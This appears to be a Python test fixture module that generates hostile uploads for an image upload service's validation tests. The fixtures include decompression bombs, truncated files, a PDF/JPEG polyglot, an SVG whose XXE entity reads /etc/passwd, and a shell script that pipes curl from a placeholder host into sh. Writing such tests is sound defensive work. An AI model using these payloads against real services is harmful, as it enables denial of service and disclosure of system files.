"""Hostile uploads, made in code at test time (no binaries checked in): decompression bombs,
truncated and malformed images, polyglots and other types sent as photos.

Each entry of HOSTILE is (name, bytes factory, declared content type, expected status,
expected problem type slug). The content type is what a client claims; the service decides
from the bytes."""

from __future__ import annotations

import functools
import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

# Declared sizes of the bombs: far past the service's pixel limit (40 MP) and past Pillow's own
# bomb limit (2 x 89 MP), and one just past ours but under Pillow's, so that both guards are
# exercised.
HUGE = 60_000  # 3.6 billion pixels when square
OVER_OURS = (8_000, 6_000)  # 48 MP: over the 40 MP limit, under Pillow's 178 MP error


def _saved(fmt: str, size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (250, 250, 245)).save(out, fmt, **options)
    return out.getvalue()


@functools.cache
def jpeg() -> bytes:
    return _saved("JPEG", quality=90)


@functools.cache
def png() -> bytes:
    return _saved("PNG")


@functools.cache
def heic() -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    return _saved("HEIF")


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


# --- decompression bombs: huge declared dimensions, small file ---------------------------------


def jpeg_bomb() -> bytes:
    """A valid small JPEG whose frame header (SOF0) declares 60000 x 60000."""
    data = bytearray(jpeg())
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, HUGE, HUGE)  # height, width
    return bytes(data)


def png_bomb_header() -> bytes:
    """A valid small PNG whose IHDR (CRC fixed up) declares 60000 x 60000."""
    data = png()
    ihdr = data.index(b"IHDR")
    body = struct.pack(">II", HUGE, HUGE) + data[ihdr + 12 : ihdr + 17]
    return data[:8] + _png_chunk(b"IHDR", body) + data[ihdr + 21 :]


def png_bomb_deflate() -> bytes:
    """A real bomb: 20000 x 20000 black 1-bit pixels (50 MB once inflated, 400 MP as RGB) in a
    file of about 50 kB."""
    width = height = 20_000
    row = b"\x00" + bytes(width // 8)  # filter byte + packed bits
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def png_text_bomb() -> bytes:
    """A 1x1 PNG carrying a compressed text chunk that inflates to 200 MB."""
    data = png()
    compressor = zlib.compressobj(9)
    chunk = bytes(1 << 20)
    text = b"".join(compressor.compress(chunk) for _ in range(200)) + compressor.flush()
    ztxt = _png_chunk(b"zTXt", b"Comment\x00\x00" + text)
    ihdr_end = 8 + 25
    return data[:ihdr_end] + ztxt + data[ihdr_end:]


def png_over_pixel_limit() -> bytes:
    """A genuine, fully decodable 8000 x 6000 (48 MP) white PNG of about 100 kB."""
    out = io.BytesIO()
    Image.new("1", OVER_OURS, 1).save(out, "PNG", optimize=True)
    return out.getvalue()


def webp_bomb() -> bytes:
    """A small lossy WebP whose VP8 frame header declares 16383 x 16383 (its maximum)."""
    data = bytearray(_saved("WEBP", quality=80))
    start = data.index(b"\x9d\x01\x2a") + 3
    struct.pack_into("<HH", data, start, 16_383, 16_383)
    return bytes(data)


def heic_bomb() -> bytes:
    """A valid small HEIC whose `ispe` box declares 60000 x 60000."""
    data = bytearray(heic())
    ispe = data.index(b"ispe")
    struct.pack_into(">II", data, ispe + 8, HUGE, HUGE)
    return bytes(data)


# --- truncated and malformed --------------------------------------------------------------------


def jpeg_truncated() -> bytes:
    """A photo-sized JPEG cut in half: the header parses, the scan data ends early."""
    out = io.BytesIO()
    noise = Image.effect_noise((640, 480), 60).convert("RGB")
    noise.save(out, "JPEG", quality=85)
    data = out.getvalue()
    return data[: len(data) // 2]


def png_truncated() -> bytes:
    out = io.BytesIO()
    Image.effect_noise((320, 240), 60).convert("RGB").save(out, "PNG")
    data = out.getvalue()
    return data[: len(data) // 2]


def jpeg_header_only() -> bytes:
    return jpeg()[:4]


def png_bad_crc() -> bytes:
    data = bytearray(png())
    data[29] ^= 0xFF  # IHDR's CRC
    return bytes(data)


def heic_truncated() -> bytes:
    data = heic()
    return data[: len(data) * 2 // 3]


def png_zero_width() -> bytes:
    data = png()
    ihdr = data.index(b"IHDR")
    body = struct.pack(">II", 0, 48) + data[ihdr + 12 : ihdr + 17]
    return data[:8] + _png_chunk(b"IHDR", body) + data[ihdr + 21 :]


# --- not a photo at all --------------------------------------------------------------------------


def pdf_polyglot() -> bytes:
    """A PDF that also carries a complete JPEG after its header (a classic polyglot)."""
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>stream\n" + jpeg() + b"\nendstream\n%%EOF\n"


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def gif() -> bytes:
    return _saved("GIF")


def tiff() -> bytes:
    return _saved("TIFF")


def svg() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="99999" height="99999">'
        b"<text>&x;</text></svg>"
    )


def avif_brand() -> bytes:
    """An ISO-BMFF file branded AVIF (HEIF's container, not accepted)."""
    return struct.pack(">I", 24) + b"ftypavif" + b"\x00\x00\x00\x00avifmif1" + bytes(64)


def wrong_magic() -> bytes:
    return bytes(range(256)) * 8


def zero_bytes() -> bytes:
    return b""


def jpeg_magic_then_garbage() -> bytes:
    """JPEG's magic and nothing else that makes sense."""
    return b"\xff\xd8\xff\xe0" + bytes(range(256)) * 4


@dataclass(frozen=True)
class Hostile:
    name: str
    make: Callable[[], bytes]
    content_type: str
    status: int
    slug: str


HOSTILE = [
    Hostile("jpeg_bomb_60000x60000", jpeg_bomb, "image/jpeg", 413, "image-too-large"),
    Hostile("png_bomb_header_60000x60000", png_bomb_header, "image/png", 413, "image-too-large"),
    Hostile("png_bomb_deflate_20000x20000", png_bomb_deflate, "image/png", 413, "image-too-large"),
    Hostile("png_ztxt_200mb", png_text_bomb, "image/png", 413, "image-too-large"),
    Hostile("png_48mp_real", png_over_pixel_limit, "image/png", 413, "image-too-large"),
    Hostile("webp_bomb_16383x16383", webp_bomb, "image/webp", 413, "image-too-large"),
    Hostile("heic_bomb_60000x60000", heic_bomb, "image/heic", 413, "image-too-large"),
    Hostile("jpeg_truncated_half", jpeg_truncated, "image/jpeg", 422, "corrupt-image"),
    Hostile("png_truncated_half", png_truncated, "image/png", 422, "corrupt-image"),
    Hostile("heic_truncated", heic_truncated, "image/heic", 422, "corrupt-image"),
    Hostile("jpeg_magic_only", jpeg_header_only, "image/jpeg", 422, "corrupt-image"),
    Hostile("jpeg_magic_then_garbage", jpeg_magic_then_garbage, "image/jpeg", 422, "corrupt-image"),
    Hostile("png_bad_ihdr_crc", png_bad_crc, "image/png", 422, "corrupt-image"),
    Hostile("png_zero_width", png_zero_width, "image/png", 422, "corrupt-image"),
    Hostile("pdf_jpeg_polyglot_as_jpeg", pdf_polyglot, "image/jpeg", 415, "unsupported-media-type"),
    Hostile("shell_script_as_jpeg", shell_script, "image/jpeg", 415, "unsupported-media-type"),
    Hostile("gif", gif, "image/gif", 415, "unsupported-media-type"),
    Hostile("tiff", tiff, "image/tiff", 415, "unsupported-media-type"),
    Hostile("svg_with_xxe", svg, "image/svg+xml", 415, "unsupported-media-type"),
    Hostile("avif_brand", avif_brand, "image/avif", 415, "unsupported-media-type"),
    Hostile("wrong_magic", wrong_magic, "image/jpeg", 415, "unsupported-media-type"),
    Hostile("zero_bytes", zero_bytes, "image/jpeg", 415, "unsupported-media-type"),
]
